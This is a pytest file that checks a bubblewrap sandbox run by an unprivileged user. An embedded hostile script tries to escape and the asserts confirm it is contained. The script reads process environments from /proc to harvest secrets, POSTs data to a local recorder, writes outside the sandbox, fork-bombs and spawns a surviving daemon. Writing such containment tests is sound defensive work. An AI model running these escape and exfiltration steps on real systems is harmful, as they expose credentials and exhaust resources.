"""The sandbox as an ordinary user runs it: bubblewrap in a user namespace, no switch to nobody.

Run as root, this suite's other tests cover the root path (privileged bubblewrap, the script as
nobody). Here a plain user (nobody, through setpriv) runs the system Python with the runner loaded
from its file, as a generated test would, and a hostile script tries the same escapes.
"""

import json
import os
import shutil
import subprocess
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from ._support import REPO, SECRETS, leaked

SYSTEM_PYTHON = Path("/usr/bin/python3")
SANDBOX_FILE = REPO / "mlops_adapt" / "verify" / "sandbox.py"

DRIVER = r"""
import importlib.util, json, shutil, sys, time
spec = importlib.util.spec_from_file_location("sandbox_under_test", sys.argv[1])
sandbox = importlib.util.module_from_spec(spec)
sys.modules[spec.name] = sandbox
spec.loader.exec_module(sandbox)
problem = sandbox.isolation_problem()
if problem:
    print(json.dumps({"problem": problem}))
    sys.exit()
started = time.monotonic()
run = sandbox.run_script(sys.stdin.read(), timeout=60, args=sys.argv[2:],
                         limits={"RLIMIT_NPROC": 32})
time.sleep(max(0, started + 5 - time.monotonic()))  # past the daemon's wake-up
print(json.dumps({"problem": None, "ok": run.ok, "stdout": run.stdout, "stderr": run.stderr,
                  "isolated": run.isolated,
                  "daemon_survived": (run.workdir / "daemon-survived").exists()}))
shutil.rmtree(run.root, ignore_errors=True)
"""

HOSTILE = r"""
import json, os, sys, time, urllib.request
url, escape = sys.argv[1], sys.argv[2]
report = {"uid": os.getuid(), "env": dict(os.environ), "proc": {}}
for pid in (p for p in os.listdir("/proc") if p.isdigit()):
    try:
        report["proc"][pid] = open(f"/proc/{pid}/environ", "rb").read().decode("utf-8", "replace")
    except OSError:
        report["proc"][pid] = "unreadable"
try:
    urllib.request.urlopen(urllib.request.Request(url, data=b"exfiltrated"), timeout=5)
    report["post"] = "sent"
except OSError as err:
    report["post"] = "blocked"
for name, path in [("escape", escape), ("tmp", "/tmp/" + os.path.basename(escape))]:
    try:
        open(path, "w").write("x")
        report[name] = "written"
    except OSError:
        report[name] = "refused"
children = []
try:
    for _ in range(200):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        children.append(pid)
except OSError:
    pass
report["children"] = len(children)
for pid in children:  # make room for the daemon
    os.kill(pid, 9)
    os.waitpid(pid, 0)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        time.sleep(3.5)
        open("daemon-survived", "w").write("still here")
        os._exit(0)
    os._exit(0)
print(json.dumps(report))
"""


class _Recorder(BaseHTTPRequestHandler):
    def do_POST(self):
        self.server.received.append(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def as_nobody():
    if os.geteuid() != 0:
        pytest.skip("the rest of this suite already runs as an ordinary user")
    setpriv = shutil.which("setpriv")
    if setpriv is None or not SYSTEM_PYTHON.is_file():
        pytest.skip("needs setpriv and /usr/bin/python3 to act as an ordinary user")
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    return [setpriv, "--reuid", "65534", "--regid", "65534", "--clear-groups"]


def test_an_ordinary_user_gets_the_same_isolation(as_nobody):
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.received = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    escape = REPO / f"escape-{uuid.uuid4().hex}"
    url = f"http://127.0.0.1:{server.server_address[1]}/"
    env = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", **SECRETS}
    try:
        done = subprocess.run(
            [*as_nobody, str(SYSTEM_PYTHON), "-c", DRIVER, str(SANDBOX_FILE), url, str(escape)],
            input=HOSTILE,
            env=env,
            cwd="/",
            capture_output=True,
            text=True,
            timeout=180,
            check=False,
        )
    finally:
        server.shutdown()
        server.server_close()
    result = json.loads(done.stdout or "{}") if done.returncode == 0 else {}
    assert result, done.stderr
    if result["problem"]:
        pytest.skip(
            f"user namespaces are not available to ordinary users here: {result['problem']}"
        )
    assert result["ok"] and result["isolated"], result["stderr"]
    report = json.loads(result["stdout"])
    assert report["uid"] == 65534
    assert leaked(result["stdout"]) == []
    assert set(report["proc"]) == {"1", "2"}  # bwrap's init and the script: no host process
    assert report["post"] == "blocked" and server.received == []
    assert report["escape"] == "refused" and not escape.exists()
    assert not Path("/tmp", escape.name).exists()
    # Bounded well below the 200 forks tried; the limit counts the user's other tasks at start,
    # so sandboxes that end meanwhile (other runs as nobody) leave a little slack.
    assert 0 < report["children"] <= 64
    assert result["daemon_survived"] is False
